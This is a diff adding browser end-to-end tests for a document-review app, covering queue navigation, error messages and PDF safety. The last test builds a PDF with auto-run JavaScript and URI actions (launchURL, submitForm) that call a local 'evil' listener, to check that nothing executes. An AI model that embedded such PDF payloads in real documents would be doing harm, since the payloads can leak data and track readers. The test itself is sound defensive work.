@@ -1,0 +1,124 @@
+import { createServer } from 'node:http';
+import { once } from 'node:events';
+import type { AddressInfo } from 'node:net';
+import type { Page } from 'playwright-core';
+import { beforeEach, describe, expect, test } from 'vitest';
+import { pdf } from '../fixtures/paper.js';
+import { eventually, hasNoBrowser, setUpBench } from './support/bench.js';
+import { billLines, billPdf, dayBefore } from './support/papers.js';
+
+/** A string for a PDF's dictionary, where a plain text would be a name. */
+const text = (words: string): object => Object(words) as object;
+const vendors = ['Juniper Paving', 'Kestrel Paint', 'Larch Fencing'];
+
+describe.skipIf(hasNoBrowser)('Reviewing a queue in the dialog', () => {
+  const bench = setUpBench();
+  let page: Page;
+  let ids: number[] = [];
+  let round = 0;
+  const dialog = (vendor: string) => page.getByRole('dialog', { name: `${vendor}.pdf` });
+  const says = (words: string | RegExp) => page.getByText(words).first().waitFor();
+  const status = async (id: number) => (await bench.product.call<{ status: string }>('GET', `/documents/${id}`)).status;
+  const expected = /Failed to load resource/;
+
+  beforeEach(async () => {
+    const before = await bench.product.call<{ id: number }[]>('GET', '/documents/');
+    for (const { id } of before) await bench.product.call('DELETE', `/documents/${id}`);
+    ids = [];
+    round += 1;
+    for (const vendor of vendors.toReversed())
+      ids.unshift(await bench.product.upload(`${vendor}.pdf`, await billPdf({ vendor, amount: `$${round}8.00`, day: dayBefore(2) })));
+  });
+
+  test('a save takes the document out and the next one follows, by keys alone; the last one closes it', async () => {
+    ({ page } = await bench.visit('/documents', { expected }));
+    await page.getByRole('option').nth(2).waitFor();
+    await page.keyboard.press('r');
+    await dialog('Juniper Paving').getByText('1 of 3').waitFor();
+    await page.keyboard.press('Alt+ArrowDown');
+    await dialog('Kestrel Paint').getByText('2 of 3').waitFor();
+    await page.keyboard.press('Alt+ArrowUp');
+    const one = dialog('Juniper Paving');
+    const checkbox = one.getByRole('checkbox', { name: 'Remove from queue after saving' });
+    expect(await checkbox.isChecked()).toBe(true);
+    await checkbox.uncheck();
+    await one.getByRole('button', { name: 'Save Changes' }).click();
+    await says('No changes to save');
+    await checkbox.check();
+    await one.getByRole('button', { name: 'Save Changes' }).press('Enter');
+    await says('Changes saved successfully!');
+    await dialog('Kestrel Paint').waitFor();
+    await eventually(() => status(ids[0] ?? 0), 'reviewed');
+    await dialog('Kestrel Paint').getByRole('button', { name: 'File document' }).click();
+    await says('Document filed successfully!');
+    const last = dialog('Larch Fencing');
+    await last.getByText('1 of 1').waitFor();
+    const created = Date.now();
+    await last.getByRole('button', { name: 'Create Expense' }).click();
+    await says('Expense created successfully!');
+    expect(await last.count()).toBe(1);
+    await last.waitFor({ state: 'detached' });
+    expect(Date.now() - created).toBeGreaterThanOrEqual(1500);
+    await page.getByText('Nothing to review').first().waitFor();
+    expect(await Promise.all(ids.map(status))).toEqual(['reviewed', 'filed', 'expensed']);
+  });
+
+  test('a document that cannot be had says why', async () => {
+    const [id = 0] = ids;
+    const open = async (path: string, file?: { status: number; json: object }): Promise<void> => {
+      ({ page } = await bench.visit('/settings', { expected }));
+      if (file) await page.route(`**/api/v1${path}`, (route) => route.fulfill(file));
+      await page.goto(`${bench.product.url}/documents/${path.startsWith('/documents/') ? id : path}`);
+    };
+    await open(`/documents/${id}/view`, { status: 404, json: { detail: 'Document not found' } });
+    await says('Document file not found');
+    await open(`/documents/${id}/view`, { status: 401, json: { detail: 'no' } });
+    await says('Authentication failed. Please log in again.');
+    await open(`/documents/${id}/view`, { status: 503, json: { detail: 'The files are away.' } });
+    await says('Failed to load document: The files are away.');
+    await page.route(`**/api/v1/documents/${id}/download`, (route) =>
+      route.fulfill({ status: 503, json: { detail: 'The files are away.' } }),
+    );
+    await page.getByRole('button', { name: 'Download', exact: true }).click();
+    await says('Failed to download file: The files are away.');
+    await open(`/documents/${id}`, { status: 500, json: {} });
+    await says('Failed to load document data');
+    await open('abc');
+    await says('Invalid document ID');
+    await open('99999999');
+    await says('Document not found');
+  });
+
+  test('a PDF that would run and call runs nothing, here or in the browser’s own viewer', async () => {
+    const called: (string | undefined)[] = [];
+    const server = createServer((request, response) => {
+      called.push(request.url);
+      response.end();
+    }).listen(0, '127.0.0.1');
+    await once(server, 'listening');
+    const evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+    const actions = {
+      O: { S: 'JavaScript', JS: text(`app.launchURL('${evil}/script'); this.submitForm('${evil}/submit');`) },
+      C: { S: 'URI', URI: text(`${evil}/uri`) },
+    };
+    const bill = await pdf([billLines({ vendor: 'Maple Locks', amount: '$7.00', day: dayBefore(1) })], { page: { AA: actions } });
+    expect(bill.toString('latin1')).toContain('app.launchURL');
+    const id = await bench.product.upload('opens.pdf', bill);
+    ({ page } = await bench.visit(`/documents/${id}`, { expected: /Failed to load resource|script/i }));
+    await page.locator('[data-preview="pdf"] canvas').waitFor();
+    const opening = page.context().waitForEvent('page');
+    await page.getByRole('button', { name: 'Open in a new tab' }).click();
+    const tab = await opening;
+    await tab.waitForLoadState();
+    const answer = await page.request.get(`${bench.product.url}/api/v1/documents/${id}/view`, {
+      headers: { authorization: `Bearer ${await bench.product.tokenOf()}` },
+    });
+    expect(answer.headers()).toMatchObject({
+      'x-content-type-options': 'nosniff',
+      'content-security-policy': expect.stringContaining("default-src 'none'"),
+    });
+    await eventually(async () => tab.evaluate('document.readyState'), 'complete');
+    expect(called).toEqual([]);
+    server.close();
+  });
+});
